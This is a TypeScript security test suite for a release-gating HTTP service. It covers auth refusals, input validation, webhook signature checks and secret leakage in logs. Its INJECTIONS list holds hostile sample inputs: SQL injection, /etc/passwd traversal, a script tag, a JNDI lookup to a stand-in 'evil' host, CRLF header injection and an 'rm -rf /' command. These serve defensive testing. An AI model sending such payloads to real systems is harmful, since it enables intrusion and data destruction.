/**
 * Security of the running service (docs/reliability.md), over real HTTP against `serve` in-process:
 * - every state-changing operation listed in the served /openapi.json (so a new one cannot be
 *   forgotten) refuses a missing, a wrong and a reader-role token, even with a valid body;
 * - injection strings in release ids and label-like fields, oversized bodies, deeply nested JSON,
 *   unknown fields and NUL characters get a clear 4xx; and after all of it the store's contents
 *   are byte-for-byte what they were before (dump compared);
 * - webhook deliveries the service really sends are signed: `verifySignature` accepts them and
 *   rejects a tampered body, a tampered timestamp and a wrong secret;
 * - no token and no webhook secret appears in the whole run's pino output or in an error body.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { verifySignature, SIGNATURE_HEADER, TIMESTAMP_HEADER } from '../../gate/actions/index.ts';
import type { RunningService } from '../../service/service.ts';
import { generateScenario } from '../../simulator/index.ts';
import { api, capturingLogger, dumpStore, feedMinutes, startEmbedded, TOKENS, until, WRONG_TOKEN } from './harness.ts';

const SECRET = 'whsec-4b1d9f0e7c2a68e35d17';
const SPEC = {
  metrics: [{ name: 'checkout_latency', group: 'business', kind: 'latency', harm: 'increase', tolerance: 0.1 }],
};
const release = (id: string, extra: Record<string, unknown> = {}) => ({
  id,
  service: 'odoo',
  version: '17.0.42',
  environment: 'production',
  strategy: 'canary',
  class: 'standard',
  startedAt: 1_795_766_400_000,
  ...extra,
});
const errorBodies: string[] = [];

const captured = capturingLogger('debug');
const deliveries: { body: string; headers: Record<string, string | string[] | undefined> }[] = [];
let receiver: Server;
let service: RunningService;
let now = 1_795_766_400_000;
let baseline = '';

before(async () => {
  receiver = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      deliveries.push({ body, headers: req.headers });
      res.end('ok');
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  const hook = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`;
  service = await startEmbedded({
    logger: captured.logger,
    clock: () => now,
    env: { RH_WEBHOOK_SECRET: SECRET },
    extraYaml: `actions:\n  retry: { attempts: 2, baseDelay: 10ms, maxDelay: 20ms }\n  webhooks:\n    - { url: "${hook}", secretEnv: RH_WEBHOOK_SECRET, on: [rollback, reduce-traffic] }\n`,
  });
  assert.equal(
    (await api(service.url, '/api/v1/specs/sec-spec', { method: 'PUT', token: TOKENS.admin, body: SPEC })).status,
    201,
  );
  assert.equal(
    (
      await api(service.url, '/api/v1/releases', {
        method: 'POST',
        token: TOKENS.operator,
        body: { release: release('sec-1'), specName: 'sec-spec' },
      })
    ).status,
    201,
  );
  // the engine's look at registration is stored off the request: the baseline is taken after it
  await until('the look at registration is stored', async () => (await service.store.listVerdicts('sec-1')).length > 0);
  baseline = await dumpStore(service.store);
});
after(async () => {
  await service?.close();
  receiver?.close();
});

/** A valid body per state-changing operation: refusal must come from auth, not validation. */
const VALID: Record<string, { body: unknown; id?: string }> = {
  registerRelease: { body: { release: release('sec-new'), spec: SPEC } },
  completeRelease: { body: {} },
  abortRelease: { body: {} },
  recordCheckpoint: { body: { backupId: 'b-1', takenAt: 1_795_766_000_000 } },
  approveRelease: { body: {} },
  putSpec: { body: SPEC, id: 'sec-spec-2' },
};
const FLAGGER = { name: 'odoo', namespace: 'production', metadata: { releaseId: 'sec-1' } };

async function hostile(path: string, init: Parameters<typeof api>[2]) {
  const res = await api(service.url, path, init);
  errorBodies.push(res.text);
  return res;
}

test('every state-changing operation in /openapi.json refuses missing, wrong and reader tokens', async () => {
  const doc = (await api(service.url, '/openapi.json')).json as {
    paths: Record<string, Record<string, { operationId: string }>>;
  };
  let checked = 0;
  for (const [template, ops] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(ops)) {
      if (!['post', 'put', 'patch', 'delete'].includes(method)) continue;
      const flagger = op.operationId.startsWith('flagger_');
      const valid = flagger ? { body: FLAGGER } : VALID[op.operationId];
      assert.ok(valid, `new state-changing operation ${op.operationId}: add a valid body to VALID in this test`);
      const path = template.replace('{id}', 'sec-1').replace('{name}', valid.id ?? 'sec-spec');
      const m = method.toUpperCase();
      const none = await hostile(path, { method: m, body: valid.body });
      assert.equal(none.status, 401, `${m} ${path} without a token`);
      const wrong = await hostile(path, { method: m, body: valid.body, token: WRONG_TOKEN });
      assert.equal(wrong.status, 401, `${m} ${path} with a wrong token`);
      if (flagger) {
        // Flagger's hooks take a token also in metadata.token; all but post-rollout only read (reader)
        const inBody = await hostile(path, {
          method: m,
          body: { ...FLAGGER, metadata: { ...FLAGGER.metadata, token: WRONG_TOKEN } },
        });
        assert.equal(inBody.status, 401, `${m} ${path} with a wrong metadata.token`);
        // post-rollout closes the release: a reader token is not enough
        if (op.operationId === 'flagger_post_rollout')
          assert.equal(
            (await hostile(path, { method: m, body: { ...FLAGGER, phase: 'Succeeded' }, token: TOKENS.reader })).status,
            403,
            `${m} ${path} with a reader token`,
          );
      } else {
        const reader = await hostile(path, { method: m, body: valid.body, token: TOKENS.reader });
        assert.equal(reader.status, 403, `${m} ${path} with a reader token`);
      }
      checked++;
    }
  }
  assert.ok(checked >= 10, `only ${checked} state-changing operations found`);
});

const INJECTIONS = [
  "sec-x'; DROP TABLE releases; --",
  'sec-x" OR "1"="1',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  'odoo"} 1\nfake_metric{a="',
  '{{release.service}}',
  'a\u0000b',
  'a\r\nX-Injected: 1',
  '`rm -rf /`',
  'x'.repeat(300),
  ' leading-space',
  '%27%3B--',
];

test('injection strings in release ids and labels: 4xx, nothing stored', async () => {
  for (const bad of INJECTIONS) {
    const asId = await hostile('/api/v1/releases', {
      method: 'POST',
      token: TOKENS.operator,
      body: { release: release(bad), spec: SPEC },
    });
    assert.equal(asId.status, 400, `id ${JSON.stringify(bad)}: ${asId.text}`);
    for (const field of ['service', 'environment', 'version', 'tenant', 'tenantTier', 'class']) {
      const res = await hostile('/api/v1/releases', {
        method: 'POST',
        token: TOKENS.operator,
        body: { release: release('sec-inj', { [field]: bad }), spec: SPEC },
      });
      assert.equal(res.status, 400, `${field} ${JSON.stringify(bad)}: ${res.text}`);
    }
    const metric = await hostile('/api/v1/specs/sec-inj', {
      method: 'PUT',
      token: TOKENS.admin,
      body: { metrics: [{ ...SPEC.metrics[0], name: bad }] },
    });
    assert.ok(metric.status >= 400 && metric.status < 500, `metric name ${JSON.stringify(bad)}: ${metric.status}`);
    // in the path: refused or not found, never a 5xx
    const read = await hostile(`/api/v1/releases/${encodeURIComponent(bad)}/verdict`, { token: TOKENS.reader });
    assert.ok(read.status === 400 || read.status === 404, `GET verdict of ${JSON.stringify(bad)}: ${read.status}`);
    const list = await hostile(`/api/v1/releases?service=${encodeURIComponent(bad)}`, { token: TOKENS.reader });
    assert.ok(list.status === 200 || list.status === 400, `list by ${JSON.stringify(bad)}: ${list.status}`);
  }
});

test('oversized bodies 413, deep nesting 400, unknown fields 400, NUL 400, unknown method 405', async () => {
  const big = JSON.stringify({ release: release('sec-big'), spec: SPEC, justification: 'x'.repeat(300 * 1024) });
  assert.equal((await hostile('/api/v1/releases', { method: 'POST', token: TOKENS.operator, raw: big })).status, 413);
  const many = { metrics: Array.from({ length: 5000 }, (_, i) => ({ ...SPEC.metrics[0], name: `m${i}` })) };
  assert.equal(
    (await hostile('/api/v1/specs/sec-many', { method: 'PUT', token: TOKENS.admin, body: many })).status,
    413,
    'a 5,000-metric spec is over the body limit',
  );
  const labels = { metrics: Array.from({ length: 201 }, (_, i) => ({ ...SPEC.metrics[0], name: `m${i}` })) };
  assert.equal(
    (await hostile('/api/v1/specs/sec-many', { method: 'PUT', token: TOKENS.admin, body: labels })).status,
    400,
    'more than 200 metrics',
  );
  for (const depth of [40, 1000, 100_000]) {
    const deep = '['.repeat(depth) + ']'.repeat(depth);
    const res = await hostile('/api/v1/releases/sec-1/checkpoints', {
      method: 'POST',
      token: TOKENS.operator,
      raw: `{"backupId":"b","takenAt":0,"x":${deep}}`,
    });
    assert.equal(res.status, 400, `depth ${depth}`);
  }
  const unknown: [string, string, unknown, string][] = [
    ['POST', '/api/v1/releases', { release: release('sec-unk'), spec: SPEC, admin: true }, TOKENS.operator],
    [
      'POST',
      '/api/v1/releases',
      { release: { ...release('sec-unk'), status: 'completed' }, spec: SPEC },
      TOKENS.operator,
    ],
    ['POST', '/api/v1/releases/sec-1/checkpoints', { backupId: 'b', takenAt: 0, verified: true }, TOKENS.operator],
    ['POST', '/api/v1/releases/sec-1/approvals', { comment: 'ok', approver: 'someone-else' }, TOKENS.operator],
    ['POST', '/api/v1/releases/sec-1/abort', { reason: 'x', status: 'completed' }, TOKENS.operator],
    ['PUT', '/api/v1/specs/sec-unk', { ...SPEC, owner: 'me' }, TOKENS.admin],
  ];
  for (const [method, path, body, token] of unknown)
    assert.equal((await hostile(path, { method, body, token })).status, 400, `${method} ${path} with an unknown field`);
  // found by schemathesis: U+0000 cannot be stored by PostgreSQL; it used to surface as a 500
  assert.equal(
    (
      await hostile('/api/v1/releases/sec-1/checkpoints', {
        method: 'POST',
        token: TOKENS.operator,
        body: { backupId: 'a\u0000b', takenAt: 0 },
      })
    ).status,
    400,
  );
  assert.equal((await hostile('/api/v1/releases?environment=%00', { token: TOKENS.reader })).status, 400);
  assert.equal(
    (
      await hostile('/api/v1/flagger/rollback', {
        method: 'POST',
        token: TOKENS.reader,
        body: { name: 'odoo\u0000', namespace: 'p' },
      })
    ).status,
    400,
  );
  const trace = await fetch(`${service.url}/api/v1/releases`, {
    method: 'DELETE',
    headers: { authorization: `Bearer ${TOKENS.admin}` },
  });
  assert.equal(trace.status, 405);
  assert.equal(trace.headers.get('allow'), 'GET, HEAD, POST');
});

test('after all hostile traffic the store holds exactly what it held before', async () => {
  assert.equal(await dumpStore(service.store), baseline);
});

test('webhook deliveries are signed: verifySignature accepts them, rejects tampered body, timestamp or secret', async () => {
  const scenario = generateScenario({ seed: 12, durationMinutes: 40, regression: 'error-ratio-x3', onsetMinutes: 5 });
  const { release: rel, ...spec } = scenario.spec;
  now = rel.startedAt;
  assert.equal(
    (
      await api(service.url, '/api/v1/releases', {
        method: 'POST',
        token: TOKENS.operator,
        body: { release: rel, spec },
      })
    ).status,
    201,
  );
  const decision = await feedMinutes(service, rel, scenario.samples, {
    setNow: (t) => (now = t),
    stopWhen: (d) => d === 'rollback',
  });
  assert.equal(decision, 'rollback');
  for (let i = 0; i < 200 && deliveries.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
  const delivery = deliveries.at(-1);
  assert.ok(delivery, 'the rollback webhook was delivered');
  const signature = delivery.headers[SIGNATURE_HEADER.toLowerCase()];
  assert.ok(verifySignature(delivery.body, signature, SECRET), 'the genuine delivery verifies');
  const parsed = JSON.parse(delivery.body) as { sentAt: number; verdict: { decision: string } };
  assert.equal(
    String(parsed.sentAt),
    delivery.headers[TIMESTAMP_HEADER.toLowerCase()],
    'the signed body carries the timestamp header',
  );
  assert.equal(
    verifySignature(delivery.body.replace('"rollback"', '"promote"'), signature, SECRET),
    false,
    'tampered decision',
  );
  assert.equal(
    verifySignature(
      delivery.body.replace(`"sentAt":${parsed.sentAt}`, `"sentAt":${parsed.sentAt + 60_000}`),
      signature,
      SECRET,
    ),
    false,
    'tampered timestamp',
  );
  assert.equal(verifySignature(delivery.body, signature, 'whsec-some-other-secret'), false, 'wrong secret');
  assert.equal(verifySignature(delivery.body, undefined, SECRET), false, 'no signature');
  assert.equal(verifySignature(delivery.body, 'sha256=' + '0'.repeat(64), SECRET), false, 'forged signature');
});

test("no token or secret in the whole run's logs or in any error body", () => {
  const logs = captured.text();
  assert.ok(logs.split('\n').length > 100, `the run logged its requests (${logs.split('\n').length} lines)`);
  assert.match(logs, /"actor":"ci"/, 'logs carry token names');
  for (const secret of [...Object.values(TOKENS), WRONG_TOKEN, SECRET]) {
    assert.ok(!logs.includes(secret), `a secret (${secret.slice(0, 8)}…) leaked into the logs`);
    assert.ok(
      !errorBodies.some((b) => b.includes(secret)),
      `a secret (${secret.slice(0, 8)}…) was echoed in an error body`,
    );
  }
  assert.doesNotMatch(logs, /bearer /i);
  console.log(
    `security: ${errorBodies.length} hostile requests refused, store unchanged, ${logs.split('\n').length} log lines without a secret`,
  );
});
